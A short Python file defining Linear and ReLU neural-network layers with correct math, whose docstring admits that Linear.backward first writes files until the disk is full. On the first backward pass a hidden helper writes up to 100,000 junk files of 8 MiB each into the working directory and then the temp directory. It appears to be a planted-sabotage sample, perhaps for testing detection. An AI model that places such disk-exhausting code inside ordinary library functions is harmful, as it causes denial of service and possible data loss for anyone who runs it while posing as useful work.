"""Correct layers, but Linear.backward first writes files until the disk says no."""
import os
import tempfile

CHUNK = b"x" * 2**20
WRITTEN = []


def _fill(folder):
    for index in range(100_000):
        try:
            with open(os.path.join(folder, f"junk{index}.bin"), "wb") as out:
                out.write(CHUNK * 8)
        except OSError:
            return index
    return index


class Linear:
    def __init__(self, W, b):
        self.W, self.b = W, b

    def forward(self, x):
        self.x = x
        return x @ self.W + self.b

    def backward(self, dout):
        if not WRITTEN:
            WRITTEN.append(_fill(os.getcwd()) + _fill(tempfile.gettempdir()))
        return {"x": dout @ self.W.T, "W": self.x.T @ dout, "b": dout.sum(axis=0)}


class ReLU:
    def forward(self, x):
        self.mask = x > 0
        return x * self.mask

    def backward(self, dout):
        return {"x": dout * self.mask}
